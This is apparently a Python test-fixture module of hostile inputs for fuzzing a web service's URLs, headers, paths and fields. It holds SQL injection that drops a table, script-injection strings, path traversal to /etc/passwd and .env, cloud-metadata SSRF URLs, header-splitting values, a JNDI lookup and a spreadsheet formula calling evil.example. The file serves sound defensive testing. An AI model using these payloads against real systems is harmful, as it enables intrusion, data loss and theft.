"""What strangers send: values held here once, for every address, parameter, header and field of every process.

Whatever of them a page repeats carries MARK, so that an answer can be asked whether it became a part of the page.
"""

from __future__ import annotations

import base64
import json

MARK = "zq7"

# -- of links: unknown, doubled, injected, encoded, too long, of another form
LINKS = (
    "KZ-99",
    "кZ-75",  # a Cyrillic letter among Latin ones
    "' OR 1=1--",
    '") UNION SELECT * FROM information_schema.tables --',
    "2025-H1;DROP TABLE marts.observation",
    "read_csv('/etc/passwd')",
    f"<script>{MARK}(1)</script>",
    f"<{MARK} onclick=x>",
    f"\"><img src=x onerror={MARK}>",
    f"' onmouseover='{MARK}",
    f"javascript:{MARK}(1)",
    f"data:text/html,<script>{MARK}</script>",
    f"%253Cscript%253E{MARK}",
    "\x00", "a\x00b", "\udcff", "\ufffe",
    "NaN", "-1", "1e9", "１０２５", "9" * 400, "1_000", "0x1f", "-0", "Infinity",
    "9999-12-31", "0000-00-00", "2025-02-30", "10000-01",
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "..%2f..%2fcurrent.duckdb", "../x",
    "__proto__", "constructor", "__class__", "value desc; --",
    f"//evil.example/{MARK}", f"https://evil.example/{MARK}", "/\\evil.example", "http://127.0.0.1:9/", "http://169.254.169.254/latest/",
    f"1\r\nSet-Cookie: {MARK}=1", f"1\nLocation: https://evil.example/{MARK}",
    "x" * 5_000, ",".join(["KZ-75"] * 500), ":" * 300, ";" * 300, "[" * 2_000, "*", "c[REF_AREA]", "(((((((((((((((((((a+)+)+)+)+)+$",
    base64.b64encode(json.dumps({"v": 99, "a": [[[[]]]]}).encode()).decode(), "%%%", "=?=",
)  # fmt: skip
# -- of texts: formulas, markup, templates, letters that turn or hide, personal data, lines of a log
TEXTS = (
    f'=WEBSERVICE("http://evil.example/{MARK}")', "@A1", "+1", "\t=1+1", "\r=1", "＝1+1",
    f"<iframe src=//evil.example/{MARK}></iframe>", f"<svg onload={MARK}>", f"![](http://evil.example/{MARK})", f"[x](javascript:{MARK})",
    f"$\\href{{javascript:{MARK}}}{{x}}$", f'<a href="javascript:{MARK}">x</a>',
    "{{config}}", "{{7*7777777}}", "${7*7777777}", "#{7*7777777}",  # 54444439 where somebody computes it
    f"${{jndi:ldap://evil.example/{MARK}}}", "%n%s%p", "{0.__class__}", "%(asctime)s",
    "\u202egnp.x", "a\u200bb\ufeff", "e" + "\u0301" * 500, "\U0001f600" * 50, "\ud800",
    "880101300123", "+7 701 123 45 67", "a.b@example.kz",
    f'x\n{{"level":"error","message":"{MARK}"}}', "\x1b[31mred", "\x07\x08",
)  # fmt: skip
EVERY = tuple(dict.fromkeys((*LINKS, *TEXTS)))
# What else can stand in a path than an ordinary word.
PATHS = (
    "..%2f..%2fcurrent.duckdb", "%2e%2e/%2e%2e/etc/passwd", "....//....//etc/passwd", "%00", "%ff", "%c0%ae%c0%ae/x", "%5c..%5cwin.ini",
    "//evil.example/%2e%2e", "/evil.example", "x%0d%0aSet-Cookie:zq7=1", f"%3Cscript%3E{MARK}%3C%2Fscript%3E", f"%22onerror={MARK}", ".git/config", ".env",
    "warehouse.duckdb", "editions/", "x" * 3_000, "%F0%9F%98%80", ";a=b", "a:b", "con", "NUL.csv", "%25", "%", "index.php", "_mcp", "console",
)  # fmt: skip
# Headers of which a program or a proxy on the way might take one for true.
HEADERS = (
    "Accept", "Accept-Language", "Accept-Encoding", "Authorization", "Content-Type", "Content-Encoding", "Cookie", "Expect", "Forwarded",
    "If-Match", "If-Modified-Since", "If-None-Match", "If-Range", "If-Unmodified-Since", "Origin", "Range", "Referer", "Sec-Fetch-Site",
    "Upgrade", "User-Agent", "Via", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Prefix", "X-Forwarded-Proto", "X-Forwarded-User",
    "X-Http-Method-Override", "X-Original-Url", "X-Real-Ip", "X-Request-Id", "X-Rewrite-Url", "X-Auth-Request-User", "X-Script-Name",
    "Access-Control-Request-Headers", "Access-Control-Request-Method", "Host",
)  # fmt: skip
IN_HEADERS = (
    "gzip;q=NaN, br;q=-1, *;q=1e400", "bytes=0-0,1-1,2-2,3-3", "bytes=-99999999999999999999", "bytes=9-1", "kk-" + "x" * 3_000, "*", "W/\"\"", '"' * 200,
    "Thu, 99 Foo 9999 99:99:99 GMT", "null", "text/html;q=0.000000001,*/*;q=2", "application/json;charset=utf-99", "evil.example", "evil.example:99999",
    "[::1", "a b", "127.0.0.1, 127.0.0.1", "for=127.0.0.1;host=evil.example;proto=https", "https://evil.example", "DELETE", "admin", "Bearer x.y.z", "Basic ====",
)  # fmt: skip
METHODS = ("POST", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "PROPFIND", "ZQ7")


def for_header(value: str) -> str | None:
    """The value as a header can bear it (Latin-1, no ends of lines, which no server lets through); None where it cannot."""
    if any(letter in value for letter in "\r\n\x00") or any(ord(letter) > 255 for letter in value):
        return None
    return value[:4_000]


def for_url(value: str) -> bytes:
    """The value as bytes of UTF-8, half a letter as the byte that it is."""
    return value.encode("utf-8", "surrogatepass" if any("\ud800" <= one < "\udc80" for one in value) else "surrogateescape")  # fmt: skip
